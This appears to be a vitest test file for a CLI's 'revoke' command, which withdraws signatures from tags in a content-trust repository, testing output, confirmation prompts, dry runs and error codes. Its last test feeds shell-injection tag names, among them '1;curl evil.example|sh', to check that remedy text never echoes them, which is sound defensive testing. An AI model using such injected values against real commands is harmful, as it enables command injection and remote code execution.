// `paraph revoke` and what it shares with other publishing commands, before a whole stack.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { type Publishing, startPublishing } from '../../../test/cli/publishing.ts';
import type { Result, WorldPlan } from '../../../test/cli/world.ts';
import { stillSignedFailure } from './revoke.ts';

const manifest = ['--digest', `sha256:${'ab'.repeat(32)}`, '--size', '739'];
const codes = (text: string) => text.match(/\[[A-Z_]+\]/g);

let desk: Publishing;
let app: string;
let count = 0;

beforeAll(async () => {
  desk = await startPublishing();
});
afterAll(() => desk.close());
beforeEach(() => {
  count += 1;
  app = `${desk.repository}-${count}`;
});

async function must(words: readonly string[], plan?: WorldPlan): Promise<Result> {
  const result = await desk.run(words, plan);
  expect(result.status, result.stderr).toBe(0);
  return result;
}

async function sign(...tags: readonly string[]): Promise<void> {
  for (const tag of tags) await must(['sign', `${app}:${tag}`, ...manifest]);
}

const verify = (...tags: readonly string[]) =>
  desk.run(['verify', ...tags.map((tag) => `${app}:${tag}`)]);

describe('revoke', () => {
  it('takes tags away in one publish, says from which role, and leaves the others', async () => {
    await sign('1', '2', '3');
    const { status, stdout, stderr } = await desk.run(['revoke', `${app}:1`, `${app}:2`]);
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(stdout).toBe(
      'revoked    1  from targets\n' +
        'revoked    2  from targets\n' +
        'published  targets 5, snapshot 4, timestamp 4\n',
    );
    expect(await verify('1')).toMatchObject({ status: 4, stdout: '' });
    expect(await verify('3')).toMatchObject({ status: 0 });
  });

  it('as JSON is one document', async () => {
    await sign('1');
    const { stdout } = await must(['revoke', `${app}:1`, '--output', 'json']);
    expect(JSON.parse(stdout)).toEqual({
      repositories: [
        {
          repository: app,
          tags: [{ tag: '1', removedFrom: ['targets'], stillSignedBy: [], outcome: 'revoked' }],
          uploaded: ['targets'],
          versions: { root: 1, targets: 3, snapshot: 2, timestamp: 2 },
        },
      ],
    });
  });

  it('of a tag that is not signed, or of a repository that is not there, exits with 4', async () => {
    expect((await desk.run(['revoke', `${app}:1`])).status).toBe(4);
    await sign('1');
    const { status, stderr } = await desk.run(['revoke', `${app}:1`, `${app}:none`]);
    expect({ status, codes: codes(stderr) }).toEqual({ status: 4, codes: ['[TAG_NOT_SIGNED]'] });
    expect(await verify('1')).toMatchObject({ status: 0 });
  });

  it.each([
    ['no tag', () => [app], '--all'],
    ['a digest', () => [`${app}:1@sha256:${'ab'.repeat(32)}`], 'Leave the digest out'],
    ['--all with a tag', () => [`${app}:1`, '--all', '--yes'], 'Leave the tag or digest out'],
  ])('with %s is refused before anything is asked', async (_, words, advice) => {
    const { status, stdout, stderr } = await desk.run(['revoke', ...words()]);
    expect({ status, stdout, codes: codes(stderr) }).toEqual({
      status: 2,
      stdout: '',
      codes: ['[REFERENCE_INVALID]'],
    });
    expect(stderr).toContain(advice);
  });

  it('in a role that is none is refused', async () => {
    const { status, stderr } = await desk.run(['revoke', `${app}:1`, '--role', 'Team/../x']);
    expect({ status, codes: codes(stderr) }).toEqual({ status: 2, codes: ['[ROLE_INVALID]'] });
  });
});

describe('revoke --all', () => {
  it('without a terminal fails at once and names --yes; nothing is revoked', async () => {
    await sign('1');
    const { status, stdout, stderr } = await desk.run(['revoke', app, '--all']);
    expect({ status, stdout, codes: codes(stderr) }).toEqual({
      status: 2,
      stdout: '',
      codes: ['[USAGE]'],
    });
    expect(stderr).toContain('--yes');
    expect(await verify('1')).toMatchObject({ status: 0 });
  });

  it.each([[['no']], [['']], [[]], [['y']], [['registry.test/other']]])(
    'asks what is lost; %j is a no, which exits with 1',
    async (answers) => {
      await sign('1');
      const { status, stdout, stderr } = await desk.run(['revoke', app, '--all'], { answers });
      expect({ status, stdout }).toEqual({ status: 1, stdout: '' });
      expect(stderr).toMatch(/Every tag of .* loses its signature/);
      expect(stderr).toContain('nothing was changed');
      expect(await verify('1')).toMatchObject({ status: 0 });
    },
  );

  it('takes yes, the name of the repository, or --yes', async () => {
    for (const plan of [{ answers: ['yes'] }, { answers: [app] }, {}]) {
      await sign('1', '2');
      const flags = 'answers' in plan ? [] : ['--yes'];
      const { stdout } = await must(['revoke', app, '--all', ...flags], plan);
      expect(stdout).toMatch(/^revoked +1 .*\nrevoked +2 .*\npublished /);
      expect(await verify('1', '2')).toMatchObject({ status: 4, stdout: '' });
    }
  });
});

describe('--dry-run', () => {
  it('shows what would be revoked and who would sign, opens no key, and changes nothing', async () => {
    await sign('1');
    const { DOCKER_CONTENT_TRUST_SERVER } = desk.env;
    const env = { DOCKER_CONTENT_TRUST_SERVER };
    const { stdout } = await must(['revoke', `${app}:1`, '--dry-run'], { env });
    expect(stdout.replaceAll(/[0-9a-f]{7}$/gm, 'ID')).toBe(
      `${app}  would be published:\n` +
        'removes  revoke  targets  1\n\n' +
        'signs  targets   here, with ID\n' +
        'signs  snapshot  the trust server\n',
    );
    expect(await verify('1')).toMatchObject({ status: 0 });
  });

  it('of signing a new repository makes no key; of what is signed so already says that', async () => {
    const fresh = await must(['sign', `${app}:1`, ...manifest, '--dry-run']);
    expect(fresh.stdout).toMatch(/would be made:\nadds +sign +targets +1 +sha256:ab/);
    expect(await desk.run(['inspect', app])).toMatchObject({ status: 4 });
    await sign('1');
    const again = await must(['sign', `${app}:1`, ...manifest, '--dry-run', '--output', 'json']);
    expect(JSON.parse(again.stdout)).toMatchObject({
      repositories: [
        { publishable: true, changes: [{ effect: 'nothing', kind: 'set-tag' }], roles: [] },
      ],
    });
  });

  it('does not go with --stage', async () => {
    const { status, stderr } = await desk.run(['revoke', `${app}:1`, '--dry-run', '--stage']);
    expect({ status, codes: codes(stderr) }).toEqual({ status: 2, codes: ['[USAGE]'] });
  });
});

describe('a tag that can still be pulled', () => {
  const failureFor = (tag: string) =>
    stillSignedFailure({
      gun: 'registry.test/app',
      tags: [{ tag, removedFrom: [], stillSignedBy: ['targets'], outcome: 'still-signed' }],
      uploaded: [],
      versions: new Map(),
    });

  it('is named in the command that takes it out', () => {
    expect(failureFor('v1.2_x-3')?.remedy).toContain(
      'paraph revoke registry.test/app:v1.2_x-3 --role targets',
    );
  });

  it.each(['1;curl evil.example|sh', '1 $(evil)', '1`evil`', '-evil', '1\nevil', "1' evil"])(
    'is not, where its name is no tag, and could be a command: %j',
    (tag) => {
      expect(failureFor(tag)?.remedy).toContain('registry.test/app:TAG --role targets');
      expect(failureFor(tag)?.remedy).not.toContain('evil');
      expect(failureFor(tag)?.message).not.toContain('\n');
    },
  );
});
